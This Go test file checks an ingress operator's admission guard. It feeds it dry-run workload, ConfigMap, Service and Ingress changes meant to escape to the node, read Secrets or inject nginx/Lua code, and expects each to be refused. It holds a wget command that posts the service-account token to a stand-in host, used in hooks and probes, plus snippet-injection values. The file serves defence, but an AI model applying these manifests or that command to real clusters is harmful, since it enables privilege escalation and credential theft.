package guard_test

import (
	"slices"
	"testing"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/edge-ingress/edge-ingress-operator/api/v1alpha1"
)

type change = func(*unstructured.Unstructured)

// pod changes a field of the pods that a workload runs.
func pod(value any, path ...string) change {
	return func(object *unstructured.Unstructured) {
		set(object.Object, value, append([]string{"spec", "template", "spec"}, path...)...)
	}
}

// container changes a field of the controller's container.
func container(value any, path ...string) change {
	return func(object *unstructured.Unstructured) {
		containers, _, _ := unstructured.NestedSlice(object.Object, "spec", "template", "spec", "containers")
		set(containers[0].(map[string]any), value, path...)
		set(object.Object, containers, "spec", "template", "spec", "containers")
	}
}

func field(value any, path ...string) change {
	return func(object *unstructured.Unstructured) { set(object.Object, value, path...) }
}

// without removes a field of the spec.
func without(key string) change {
	return func(object *unstructured.Unstructured) { unstructured.RemoveNestedField(object.Object, "spec", key) }
}

func all(changes ...change) change {
	return func(object *unstructured.Unstructured) {
		for _, c := range changes {
			c(object)
		}
	}
}

type object = map[string]any

type list = []any

func shell(command string) object {
	return object{"exec": object{"command": list{"/bin/sh", "-c", command}}}
}

const steals = "wget -O- --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token http://192.0.2.1"

// podChanges are ways from the controller's pods to the node, to the Secrets or to another program.
var podChanges = map[string]change{
	"files of the node":                  all(pod(list{object{"name": "host", "hostPath": object{"path": "/"}}}, "volumes"), container(list{object{"name": "host", "mountPath": "/host"}}, "volumeMounts")),
	"a Secret as files":                  all(pod(list{object{"name": "s", "secret": object{"secretName": "s"}}}, "volumes"), container(list{object{"name": "s", "mountPath": "/s"}}, "volumeMounts")),
	"a token of another audience":        pod(list{object{"name": "t", "projected": object{"sources": list{object{"serviceAccountToken": object{"path": "t", "audience": "vault"}}}}}}, "volumes"),
	"processes of the node":              pod(true, "hostPID"),
	"memory of the node":                 pod(true, "hostIPC"),
	"another account":                    pod("default", "serviceAccountName"),
	"a powerful account":                 pod("clusterrole-aggregation-controller", "serviceAccountName"),
	"a second program":                   func(o *unstructured.Unstructured) { addContainer(o, "containers") },
	"a program that runs first":          func(o *unstructured.Unstructured) { addContainer(o, "initContainers") },
	"a chosen node":                      pod("worker", "nodeName"),
	"every node":                         pod(object{"kubernetes.io/os": "linux"}, "nodeSelector"),
	"every node, without a word":         pod(object{}, "nodeSelector"),
	"a priority that preempts others":    pod("system-node-critical", "priorityClassName"),
	"another runtime":                    pod("other", "runtimeClassName"),
	"other names in the network":         pod(list{object{"ip": "192.0.2.1", "hostnames": list{"kubernetes.default.svc"}}}, "hostAliases"),
	"credentials of a registry":          pod(list{object{"name": "a"}}, "imagePullSecrets"),
	"settings of the kernel":             pod(object{"sysctls": list{object{"name": "net.ipv4.ip_forward", "value": "1"}}}, "securityContext"),
	"root for all containers":            pod(object{"runAsUser": int64(0)}, "securityContext"),
	"processes that see each other":      pod(true, "shareProcessNamespace"),
	"a privileged container":             all(container(true, "securityContext", "privileged"), container(true, "securityContext", "allowPrivilegeEscalation")),
	"more rights later":                  container(true, "securityContext", "allowPrivilegeEscalation"),
	"root":                               all(container(int64(0), "securityContext", "runAsUser"), container(false, "securityContext", "runAsNonRoot")),
	"a capability":                       container(object{"drop": list{"ALL"}, "add": list{"SYS_ADMIN"}}, "securityContext", "capabilities"),
	"all usual capabilities":             container(object{"add": list{"NET_BIND_SERVICE"}}, "securityContext", "capabilities"),
	"no seccomp":                         container(object{"type": "Unconfined"}, "securityContext", "seccompProfile"),
	"another profile of SELinux":         container(object{"type": "spc_t"}, "securityContext", "seLinuxOptions"),
	"no security context":                container(object{}, "securityContext"),
	"another image":                      container("example.com/thief:1", "image"),
	"an image that looks alike":          container("registry.k8s.io/ingress-nginx/controller-thief:1", "image"),
	"an image of that name elsewhere":    container("example.com/registry.k8s.io/ingress-nginx/controller:1", "image"),
	"another command":                    container(list{"/bin/sh", "-c", steals}, "command"),
	"other arguments":                    container(list{"/bin/sh", "-c", steals}, "args"),
	"one more argument":                  container(list{"/nginx-ingress-controller", "--kubeconfig=/tmp/a"}, "args"),
	"settings that somebody else writes": argument("--configmap=shop/settings"),
	"annotations without validation": func(o *unstructured.Unstructured) {
		container(append(slices.DeleteFunc(arguments(o), func(a any) bool { return a == "--enable-annotation-validation=true" }), "--enable-annotation-validation=false"), "args")(o)
	},
	"every Ingress":                    argument("--watch-ingress-without-class=true"),
	"another API server":               argument("--apiserver-host=http://192.0.2.1"),
	"another file as message":          container("/etc/passwd", "terminationMessagePath"),
	"a library":                        container(list{object{"name": "LD_PRELOAD", "value": "/tmp/a"}}, "env"),
	"a Secret as variable":             container(list{object{"name": "POD_NAME", "valueFrom": object{"secretKeyRef": object{"name": "a", "key": "b"}}}}, "env"),
	"Secrets as variables":             container(list{object{"secretRef": object{"name": "a"}}}, "envFrom"),
	"a script at the start":            container(shell(steals), "lifecycle", "postStart"),
	"a script at the end":              container(shell(steals), "lifecycle", "preStop"),
	"a script after the sleep":         container(shell("sleep 30; /wait-shutdown; "+steals), "lifecycle", "preStop"),
	"a script in the startup probe":    container(shell(steals), "startupProbe"),
	"a script in the liveness probe":   container(shell(steals), "livenessProbe"),
	"a script in the readiness probe":  container(shell(steals), "readinessProbe"),
	"a probe of another host":          container(object{"httpGet": object{"path": "/", "port": int64(80), "host": "169.254.169.254"}}, "livenessProbe"),
	"a terminal":                       container(true, "stdin"),
	"another directory":                container("/tmp", "workingDir"),
	"the port of the kubelet":          container(list{object{"name": "http", "containerPort": int64(10250), "hostPort": int64(10250), "protocol": "TCP"}}, "ports"),
	"port 22 of the node":              container(list{object{"name": "http", "containerPort": int64(80), "hostPort": int64(22), "protocol": "TCP"}}, "ports"),
	"an address of the node":           container(list{object{"name": "http", "containerPort": int64(80), "hostPort": int64(80), "hostIP": "192.0.2.1", "protocol": "TCP"}}, "ports"),
	"an annotation that webhooks read": field(object{"vault.hashicorp.com/agent-inject": "true"}, "spec", "template", "metadata", "annotations"),
	"a profile of AppArmor":            field(object{"container.apparmor.security.beta.kubernetes.io/controller": "unconfined"}, "spec", "template", "metadata", "annotations"),
	"a second network":                 field(object{"k8s.v1.cni.cncf.io/networks": "other"}, "spec", "template", "metadata", "annotations"),
	"a label that webhooks read":       field("true", "spec", "template", "metadata", "labels", "azure.workload.identity/use"),
}

func arguments(o *unstructured.Unstructured) list {
	containers, _, _ := unstructured.NestedSlice(o.Object, "spec", "template", "spec", "containers")
	return containers[0].(object)["args"].(list)
}

// argument adds one to those that the operator gives.
func argument(more string) change {
	return func(o *unstructured.Unstructured) { container(append(arguments(o), more), "args")(o) }
}

func addContainer(o *unstructured.Unstructured, to string) {
	path := []string{"spec", "template", "spec", to}
	containers, _, _ := unstructured.NestedSlice(o.Object, path...)
	set(o.Object, append(containers, object{"name": "more", "image": "registry.k8s.io/ingress-nginx/controller:v1.15.1"}), path...)
}

// TestPodsAreTheControllerOnly makes each change in a new workload and in one that exists.
func TestPodsAreTheControllerOnly(t *testing.T) {
	for name, change := range podChanges {
		t.Run(name, func(t *testing.T) {
			for _, kind := range []string{"DaemonSet", "Deployment"} {
				made := own(kind, fresh)
				change(made)
				if err := refusal(client.NewDryRunClient(operator).Create(t.Context(), made), "workloads"); err != nil {
					t.Errorf("creating a %s: %v", kind, err)
				}
			}
			changed := own("DaemonSet", public)
			change(changed)
			if err := refusal(replace(t, changed), "workloads"); err != nil {
				t.Errorf("changing the DaemonSet: %v", err)
			}
		})
	}
}

// replace replaces an object by an update as a dry run.
func replace(t *testing.T, wanted *unstructured.Unstructured) error {
	t.Helper()
	live := &unstructured.Unstructured{}
	live.SetGroupVersionKind(wanted.GroupVersionKind())
	if err := root.Get(t.Context(), client.ObjectKeyFromObject(wanted), live); err != nil {
		t.Fatal(err)
	}
	wanted.SetResourceVersion(live.GetResourceVersion())
	return client.NewDryRunClient(operator).Update(t.Context(), wanted)
}

// contentChanges are ways to lead traffic elsewhere, or to have the controller run other code, by kind.
var contentChanges = map[string]map[string]change{
	"ConfigMap": {
		"a snippet":                         field("set_real_ip_from 0.0.0.0/0;", "data", "server-snippet"),
		"another snippet in our place":      field("init_by_lua_block { }", "data", "http-snippet"),
		"more after our snippet":            func(o *unstructured.Unstructured) { appendTo(o, "http-snippet", "init_by_lua_block { }\n") },
		"more in the snippet of locations":  func(o *unstructured.Unstructured) { appendTo(o, "location-snippet", "content_by_lua_block { }\n") },
		"a snippet in capital letters":      field("x", "data", "Main-Snippet"),
		"snippets of everybody":             field("true", "data", "allow-snippet-annotations"),
		"annotations of every risk":         field("Critical", "data", "annotations-risk-level"),
		"a value that ends its directive":   field("1m; init_by_lua_block { }", "data", "proxy-body-size"),
		"a value that begins a block":       field("a { }", "data", "upstream-hash-by-subset-size"),
		"a value that leaves its quotes":    field(`' ; init_by_lua_block { } #`, "data", "log-format-upstream"),
		"a value that leaves double quotes": field(`" ; init_by_lua_block { } #`, "data", "otel-service-name"),
		"a value of two lines":              field("a\nb", "data", "upstream-hash-by"),
		"paths without validation":          field("false", "data", "strict-validate-path-type"),
		"a log where code is":               field("/etc/nginx/lua/balancer.lua", "data", "access-log-path"),
		"headers of a foreign ConfigMap":    field("shop/settings", "data", "proxy-set-headers"),
		"binary data":                       field(object{"main-snippet": "dHJ1ZQ=="}, "binaryData"),
	},
	"Service": {
		"pods of somebody else":  field(object{"app": "web"}, "spec", "selector"),
		"no pods":                field(object{}, "spec", "selector"),
		"addresses of others":    field(list{"192.0.2.1"}, "spec", "externalIPs"),
		"a name outside":         all(field("ExternalName", "spec", "type"), field("example.com", "spec", "externalName"), without("externalTrafficPolicy"), without("allocateLoadBalancerNodePorts")),
		"the controllers of one": field("public2", "spec", "selector", "app.kubernetes.io/instance"),
	},
	"Ingress": {
		"another backend":          backend("thief", "/.well-known/edge-ingress"),
		"another path":             backend("edge-ingress-witness", "/"),
		"everything":               field(object{"service": object{"name": "edge-ingress-witness", "port": object{"number": int64(80)}}}, "spec", "defaultBackend"),
		"a certificate":            field(list{object{"secretName": "a"}}, "spec", "tls"),
		"a snippet":                field("return 200;", "metadata", "annotations", "nginx.ingress.kubernetes.io/configuration-snippet"),
		"another authentication":   field("https://example.com", "metadata", "annotations", "nginx.ingress.kubernetes.io/auth-url"),
		"an annotation of others":  field("x", "metadata", "annotations", "traefik.ingress.kubernetes.io/router.middlewares"),
		"a value that is not ours": field("x", "metadata", "annotations", "nginx.ingress.kubernetes.io/limit-rate"),
	},
	"IngressClass": {
		"another controller": field("k8s.io/ingress-nginx", "spec", "controller"),
		"parameters":         field(object{"kind": "ConfigMap", "name": "a"}, "spec", "parameters"),
	},
}

func appendTo(o *unstructured.Unstructured, key, text string) {
	before, _, _ := unstructured.NestedString(o.Object, "data", key)
	set(o.Object, before+text, "data", key)
}

func backend(service, path string) change {
	return field(list{object{"host": "a.example", "http": object{"paths": list{object{"path": path, "pathType": "ImplementationSpecific",
		"backend": object{"service": object{"name": service, "port": object{"number": int64(80)}}}}}}}}, "spec", "rules")
}

func TestContentsAreTheOperatorsOnly(t *testing.T) {
	for kind, changes := range contentChanges {
		policy := "traffic"
		if kind == "ConfigMap" {
			policy = "settings"
		}
		for name, change := range changes {
			t.Run(kind+" "+name, func(t *testing.T) {
				made := own(kind, fresh)
				change(made)
				if err := refusal(client.NewDryRunClient(operator).Create(t.Context(), made), policy); err != nil {
					t.Errorf("creating: %v", err)
				}
				changed := own(kind, public)
				change(changed)
				if changed.GetKind() == "Service" {
					clusterIP(t, changed)
				}
				if err := refusal(replace(t, changed), policy); err != nil && !frozen(name, kind) {
					t.Errorf("changing: %v", err)
				}
			})
		}
	}
}

// frozen are changes that Kubernetes itself does not allow.
func frozen(name, kind string) bool { return kind == "IngressClass" && name == "another controller" }

// clusterIP gives a Service the address that it has, which an update may not remove.
func clusterIP(t *testing.T, service *unstructured.Unstructured) {
	t.Helper()
	live := &unstructured.Unstructured{}
	live.SetGroupVersionKind(service.GroupVersionKind())
	if err := root.Get(t.Context(), client.ObjectKeyFromObject(service), live); err != nil {
		t.Fatal(err)
	}
	if kind, _, _ := unstructured.NestedString(service.Object, "spec", "type"); kind == string(v1alpha1.ExposureLoadBalancer) {
		for _, key := range []string{"clusterIP", "clusterIPs", "healthCheckNodePort"} {
			value, _, _ := unstructured.NestedFieldCopy(live.Object, "spec", key)
			set(service.Object, value, "spec", key)
		}
	}
}
